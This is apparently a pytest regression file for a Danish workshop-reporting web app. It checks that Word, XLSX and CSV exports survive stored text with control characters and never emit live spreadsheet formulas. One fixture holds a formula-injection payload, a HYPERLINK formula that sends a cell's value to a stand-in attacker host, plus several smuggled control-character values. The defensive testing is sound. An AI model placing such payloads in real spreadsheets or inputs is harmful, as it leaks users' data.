"""Finding 9: one control character in stored text made the Word report and the results
XLSX fail for everyone (a 500); finding 1: a title starting with a control character and
then a formula became a live formula in the XLSX story export. The data below is stored
as older versions let it in (the forms refuse it now): every writer must cope."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from domains.models import Domain
from tests.factories import cast, make_edition, make_round, make_story, make_workshop
from workshops.models import Group, Quote, Workshop

pytestmark = pytest.mark.django_db

ATTACK = '\x01=HYPERLINK("http://angriber.example/?d="&C2,"Åbn")'


@pytest.fixture
def dirty(db):
    """A closed citizens' workshop and stories whose texts hold control characters, in
    the report edition shown."""
    round_ = make_round("Snavset runde")
    workshop = make_workshop(status=Workshop.Status.CLOSED, title="Work\x0bshop", round=round_)
    Group.objects.filter(workshop=workshop, number=1).update(name="\x1b=Gruppe 1")
    group = workshop.groups.get(number=1)
    for _ in range(3):
        cast(workshop, group, ["glaede"])
    Quote.objects.create(
        workshop=workshop,
        group=group,
        domain=Domain.objects.get(slug="glaede"),
        kind="why",
        text="Vi blev\x02 hørt\x08.",
    )
    Domain.objects.filter(slug="glaede").update(what_changes="Mere\x0c glæde\ufffe.")
    make_story(title=ATTACK, text="Tekst\x07 her", round=round_, consent=("report",))
    make_edition([round_], ranking=[workshop])
    return workshop


def _xlsx_cells(raw):
    book = load_workbook(io.BytesIO(raw))
    cells = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r]
    return cells


def test_the_word_report_is_made_whatever_the_stored_text_holds(manager_client, dirty):
    response = manager_client.get("/report/word/", {"workshop": dirty.pk})
    assert response.status_code == 200
    document = zipfile.ZipFile(io.BytesIO(response.content)).read("word/document.xml")
    assert b"\x02" not in document and b"\x0b" not in document
    assert "Mere\ufffd glæde\ufffd.".encode() in document  # replaced visibly, not dropped


def test_the_results_xlsx_and_csv_are_made_and_hold_no_formula(facilitator_client, dirty):
    for fmt in ("xlsx", "csv"):
        for what in ("resultat", "stemmesedler"):
            response = facilitator_client.get(f"/workshops/{dirty.pk}/export/{what}.{fmt}")
            assert response.status_code == 200, (what, fmt)
            if fmt == "xlsx":
                cells = _xlsx_cells(response.content)
                assert not [c for c in cells if c.data_type == "f"]
                values = [str(c.value) for c in cells if c.value is not None]
            else:
                text = response.content.decode("utf-8-sig")
                values = [v for r in csv.reader(io.StringIO(text), delimiter=";") for v in r]
            assert not [v for v in values if v.startswith(("=", "\x1b"))], values


def test_the_story_export_never_writes_a_live_formula(staff_client, manager_client, dirty):
    for client in (staff_client, manager_client):
        xlsx = client.get("/stories/export.xlsx")
        assert xlsx.status_code == 200
        cells = _xlsx_cells(xlsx.content)
        assert not [c for c in cells if c.data_type == "f"]
        titles = [str(c.value) for c in cells if "HYPERLINK" in str(c.value)]
        # The control character is replaced (U+FFFD), so the final text is no formula.
        assert titles and all(t.startswith(("'", "\ufffd")) for t in titles), titles
        raw = b"".join(client.get("/stories/export.csv").streaming_content).decode("utf-8-sig")
        values = [v for r in csv.reader(io.StringIO(raw), delimiter=";") for v in r]
        hyperlinks = [v for v in values if "HYPERLINK" in v]
        assert hyperlinks and all(v.startswith(("'", "\ufffd")) for v in hyperlinks)
        assert "\x01" not in raw and "\x07" not in raw


def test_the_report_pages_and_print_are_made(manager_client, dirty):
    for url in ("/report/", "/report/print/", "/domains/", "/domains/glaede/"):
        response = manager_client.get(url, {"workshop": dirty.pk})
        assert response.status_code == 200, url
